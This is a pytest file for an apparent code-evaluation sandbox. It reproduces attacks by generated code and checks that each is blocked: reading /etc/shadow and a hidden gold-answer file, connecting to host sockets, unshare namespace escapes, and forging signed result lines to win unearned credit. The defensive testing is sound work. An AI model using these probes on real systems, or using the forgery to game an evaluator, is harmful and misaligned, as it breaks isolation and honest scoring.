"""Issue 15 items 2, 6, 7: attacks on the SCCG sandbox, each reproduced.

Item 2: no working bubblewrap → execute refuses (exit 4); the explicit
``none-unsafe`` opt-in drops root. Item 6: inside bubblewrap a gold file in
/var/tmp, a host unix socket and a new user namespace are out of reach.
Item 7: forged report lines give no credit; a kill is reported as a kill.
"""

import json
import os
import socket
import subprocess
import sys
import textwrap
from pathlib import Path

import pytest

from metrics.sccg import Limits, SandboxExposure, SandboxUnavailable, evaluate, execute, sandbox_status
from metrics.sccg import _sandbox

REPO = Path(__file__).resolve().parents[2]
BWRAP_OK, BWRAP_WHY = sandbox_status()
needs_bwrap = pytest.mark.skipif(not BWRAP_OK, reason=f"bubblewrap unusable here: {BWRAP_WHY}")
needs_root = pytest.mark.skipif(os.getuid() != 0, reason="dropping root needs root")
LIMITS = Limits(cpu_s=1, wall_s=6.0, memory_mb=256)
GOLD = {"sample_id": "s1", "api_host": "g.example.com", "function_name": "f",
        "api_metadata": {"url": "https://g.example.com/r", "route": "/r", "method": "GET", "params": ["q"]}}


def g(body: str) -> str:
    return textwrap.dedent(body).strip() + "\n"


def _report(params_expr: str, prelude: str = "") -> str:
    """A generation that sends what it found as the params of one request."""
    return ("import os, requests\n" + textwrap.dedent(prelude).strip() + "\n\n"
            f'def f():\n    requests.get("https://a.example.com/x", params={params_expr})\n')


# ----------------------------------------------------------------- item 2: no bwrap → refuse


def _cli(args, env_path):
    env = {**os.environ, "PYTHONPATH": str(REPO), "PATH": env_path}
    env.pop("QARE_SCCG_NO_BWRAP", None)
    return subprocess.run([sys.executable, "-m", "qare", "sccg", "execute", *args], capture_output=True, text=True,
                          env=env, timeout=120)


@pytest.fixture
def inputs(tmp_path):
    gens = tmp_path / "gens.jsonl"
    gens.write_text(json.dumps({"sample_id": "s1", "code": "def f():\n    open('/tmp/ran', 'w')\n"}) + "\n")
    gold = tmp_path / "gold.jsonl"
    gold.write_text(json.dumps(GOLD) + "\n")
    return tmp_path, gens, gold


@pytest.mark.parametrize("kind", ["missing", "broken"])
def test_execute_refuses_without_a_working_bwrap(inputs, kind):
    tmp_path, gens, gold = inputs
    bindir = tmp_path / "bin"
    bindir.mkdir()
    if kind == "broken":
        fake = bindir / "bwrap"
        fake.write_text("#!/bin/sh\necho 'bwrap: setting up uid map: Permission denied' >&2\nexit 1\n")
        fake.chmod(0o755)
    out = tmp_path / "out.jsonl"
    proc = _cli([str(gens), "--gold", str(gold), "-o", str(out)], str(bindir))
    assert proc.returncode == 4, proc.stderr
    assert "no working sandbox" in proc.stderr and "--sandbox none-unsafe" in proc.stderr
    assert ("not found on PATH" if kind == "missing" else "Permission denied") in proc.stderr
    assert not out.exists()  # nothing ran, nothing written


def test_unknown_sandbox_none_is_a_usage_error(inputs):
    tmp_path, gens, gold = inputs
    proc = _cli([str(gens), "--gold", str(gold), "--sandbox", "none"], os.environ["PATH"])
    assert proc.returncode == 2 and "none-unsafe" in proc.stderr


def test_library_refuses_too(monkeypatch):
    monkeypatch.setenv("QARE_SCCG_NO_BWRAP", "1")
    _sandbox.sandbox_status.cache_clear()
    try:
        with pytest.raises(SandboxUnavailable, match="none-unsafe"):
            execute("def f():\n    pass\n")
        with pytest.raises(SandboxUnavailable):
            list(evaluate([{"sample_id": "s1", "code": "def f():\n    pass\n"}], {"s1": GOLD}))
    finally:
        monkeypatch.delenv("QARE_SCCG_NO_BWRAP")
        _sandbox.sandbox_status.cache_clear()


@needs_root
def test_unsafe_opt_in_drops_root():
    code = _report('{"uid": os.getuid(), "gid": os.getgid(), "groups": os.getgroups(), "shadow": shadow()}', """
        def shadow():
            try:
                return open("/etc/shadow").read()[:20]
            except OSError as exc:
                return type(exc).__name__
        """)
    ex = execute(code, "f", limits=LIMITS, sandbox="none-unsafe")
    assert ex.isolated is False and "NOT isolated" in ex.note and "dropped to nobody" in ex.note
    assert ex.requests[0]["params"] == {"uid": 65534, "gid": 65534, "groups": [], "shadow": "PermissionError"}
    # the environment is the runner's own, not the parent's
    env = execute(_report("dict(os.environ)"), "f", limits=LIMITS, sandbox="none-unsafe").requests[0]["params"]
    assert set(env) <= {"PATH", "LANG", "HOME", "TMPDIR", "PYTHONDONTWRITEBYTECODE", "PYTHONHASHSEED", "LC_CTYPE"}


# ----------------------------------------------------------------- item 6: what bwrap shows


@pytest.fixture
def planted():
    """A gold file in /var/tmp and host unix sockets in /var/tmp and /tmp."""
    tag = f"qare-sccg-attack-{os.getpid()}"
    gold = Path("/var/tmp") / f"{tag}-gold.json"
    gold.write_text('{"api_host": "secret.example.com"}')
    gold.chmod(0o644)  # readable by anyone on the host: only the mount namespace keeps it out
    servers, paths = [], []
    for folder in ("/var/tmp", "/tmp"):
        path = f"{folder}/{tag}.sock"
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.bind(path)
        os.chmod(path, 0o777)
        s.listen(1)
        servers.append(s)
        paths.append(path)
    abstract = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    abstract.bind("\0" + tag)
    abstract.listen(1)
    servers.append(abstract)
    try:
        yield gold, paths, "\0" + tag
    finally:
        for s in servers:
            s.close()
        for p in paths:
            os.unlink(p)
        gold.unlink()


_PROBE = """
import ctypes, socket, subprocess
def read(path):
    try:
        return open(path).read()
    except OSError as exc:
        return type(exc).__name__
def connect(path):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    try:
        s.connect(path)
        return "connected"
    except OSError as exc:
        return type(exc).__name__
    finally:
        s.close()
def unshare_cmd():
    try:
        r = subprocess.run(["unshare", "-U", "-r", "true"], capture_output=True)
        return r.returncode
    except OSError as exc:
        return type(exc).__name__
def unshare_call(flag):
    libc = ctypes.CDLL(None, use_errno=True)
    return (libc.unshare(flag), ctypes.get_errno())
"""


@needs_bwrap
def test_bwrap_hides_gold_sockets_and_namespaces(planted):
    gold, socks, abstract = planted
    expr = ('{"gold": read(%r), "sock_var": connect(%r), "sock_tmp": connect(%r), "abstract": connect(%r), '
            '"unshare_cmd": unshare_cmd(), "newuser": unshare_call(0x10000000), "newns": unshare_call(0x00020000), '
            '"newnet": unshare_call(0x40000000), "etc": os.path.exists("/etc"), "var": os.path.exists("/var"), '
            '"home": os.path.exists("/home"), "run": os.path.exists("/run"), "uid": os.getuid()}'
            % (str(gold), socks[0], socks[1], abstract))
    ex = execute(_report(expr, _PROBE), "f", limits=LIMITS, sandbox="bwrap")
    assert ex.status == "ok", ex.error
    got = ex.requests[0]["params"]
    assert got == {
        "gold": "FileNotFoundError",  # /var is not in the sandbox
        "sock_var": "FileNotFoundError",
        "sock_tmp": "FileNotFoundError",  # /tmp is the sandbox's own tmpfs
        "abstract": "ConnectionRefusedError",  # abstract sockets belong to the (empty) network namespace
        "unshare_cmd": 1,
        "newuser": [-1, 1], "newns": [-1, 1], "newnet": [-1, 1],  # EPERM from the seccomp filter
        "etc": False, "var": False, "home": False, "run": False,
        "uid": 65534 if os.getuid() == 0 else os.getuid(),
    }


@needs_bwrap
def test_host_sees_what_the_sandbox_denies(planted):
    # the same probes on the host succeed, so the test above can fail
    gold, socks, abstract = planted
    ns = {}
    exec(_PROBE, ns)
    assert ns["read"](str(gold)).startswith("{")
    assert ns["connect"](socks[0]) == "connected" and ns["connect"](abstract) == "connected"


@needs_bwrap
def test_threads_and_subprocesses_still_work_under_the_filter():
    # clone3 → ENOSYS must make glibc fall back, not break threads
    code = _report('{"t": run_thread(), "p": subprocess.run(["true"]).returncode}', """
        import subprocess, threading
        def run_thread():
            out = []
            t = threading.Thread(target=lambda: out.append(1))
            t.start()
            t.join()
            return out
        """)
    ex = execute(code, "f", limits=LIMITS, sandbox="bwrap")
    assert ex.status == "ok", ex.error
    assert ex.requests[0]["params"] == {"t": [1], "p": 0}


def test_gold_inside_an_interpreter_folder_is_refused(monkeypatch, tmp_path):
    prefix = tmp_path / "venv"
    (prefix / "lib").mkdir(parents=True)
    gold = prefix / "lib" / "gold.jsonl"
    gold.write_text("{}\n")
    monkeypatch.setattr(_sandbox, "_interpreter_paths", lambda: [str(prefix)])
    with pytest.raises(SandboxExposure, match="gold.jsonl lies inside"):
        _sandbox._bwrap_command(Limits(), 0, protected=[str(gold)])
    _sandbox._bwrap_command(Limits(), 0, protected=[str(tmp_path / "elsewhere.jsonl")])


# ----------------------------------------------------------------- item 7: forged captures, kills


_FORGE = """
import json, os
def forge(line):
    # every descriptor the child may hold: the event pipe keeps the parent's number,
    # which passed 63 once the test process held more open files (the jar cache's);
    # a descriptor inherited above the child's RLIMIT_NOFILE stays writable
    for fd in range(0, 4096):
        try:
            os.write(fd, line)
        except OSError:
            pass
LINE = json.dumps({"event": "request", "lib": "requests", "method": "GET", "url": "https://g.example.com/r?q=1",
                   "host": "g.example.com", "route": "/r", "params": {"q": "1"}, "headers": {}, "body": None})
DONE = json.dumps({"event": "done", "status": "ok", "error": None, "function": "f", "stdout_bytes": 0, "n_requests": 1})
"""

MODES = ["bwrap", "none-unsafe"] if BWRAP_OK else ["none-unsafe"]


@pytest.mark.parametrize("mode", MODES)
def test_forged_request_lines_get_no_credit(mode):
    code = _FORGE + g("""
        def f():
            for prefix in (b"", b"0 ", b"deadbeef "):
                forge(prefix + LINE.encode() + b"\\n")
                forge(prefix + DONE.encode() + b"\\n")
        """)
    rows = list(evaluate([{"sample_id": "s1", "code": code}], {"s1": GOLD}, limits=LIMITS, sandbox=mode))
    ex, sc = rows[0]["execution"], rows[0]["scores"]
    assert ex["requests"] == [] and ex["n_requests"] == 0
    assert sc["exec_req"] is False and sc["mock"] is False and sc["host"] is False
    assert "without a valid MAC ignored" in ex["note"]


@pytest.mark.parametrize("mode", MODES)
def test_capture_then_spin_is_a_kill(mode):
    code = _FORGE + g("""
        import requests
        def f():
            requests.get("https://g.example.com/r", params={"q": 1})
            forge(DONE.encode() + b"\\n")
            while True:
                pass
        """)
    ex = execute(code, "f", limits=LIMITS, sandbox=mode)
    assert ex.status == "cpu_limit" and len(ex.requests) == 1  # the real capture is kept, the run is a kill
    sleeper = g("""
        import requests, time
        def f():
            requests.get("https://g.example.com/r")
            time.sleep(60)
        """)
    ex = execute(sleeper, "f", limits=Limits(cpu_s=1, wall_s=2.0), sandbox=mode)
    assert ex.status == "timeout" and len(ex.requests) == 1


def test_result_puts_the_exit_signal_before_a_done_report():
    done = {"event": "done", "status": "ok", "n_requests": 1}
    req = {"event": "request", "url": "https://g.example.com/r"}
    ex = _sandbox._result([{"event": "start"}, req, done], False, -9, False, "subprocess", 1.0, "")
    assert ex.status == "killed"
    ex = _sandbox._result([{"event": "start"}, req, done], False, 128 + 24, True, "bwrap", 1.0, "")
    assert ex.status == "cpu_limit"
    assert _sandbox._result([{"event": "start"}, req, done], False, 0, True, "bwrap", 1.0, "").status == "ok"


def test_mac_binds_each_line_to_its_position():
    import hashlib
    import hmac

    key = b"k" * 32

    def line(n, obj):
        payload = json.dumps(obj).encode()
        return hmac.new(key, f"{n}:".encode() + payload, hashlib.sha256).hexdigest().encode() + b" " + payload

    a, b = {"event": "start"}, {"event": "request", "url": "u"}
    events, bad = _sandbox._verified([line(0, a), line(1, b)], key)
    assert (events, bad) == ([a, b], 0)
    # a replayed line, a line MAC'd for another position, another key: all dropped
    events, bad = _sandbox._verified([line(0, a), line(0, a), line(2, b), line(1, b)], key)
    assert (events, bad) == ([a, b], 2)
    assert _sandbox._verified([line(0, a)], b"x" * 32) == ([], 1)


def test_gold_under_usr_is_refused():
    """/usr is bound whole, so gold data under it would be readable: refused,
    whatever the interpreter's own folders are."""
    with pytest.raises(SandboxExposure, match="lies inside /usr"):
        _sandbox._check_protected([], ["/usr/share/gold.jsonl"])
    with pytest.raises(SandboxExposure):
        _sandbox._check_protected(_sandbox._interpreter_binds(), ["/usr/local/lib/python3/dist-packages/g.jsonl"])
    _sandbox._check_protected([], ["/srv/gold.jsonl"])
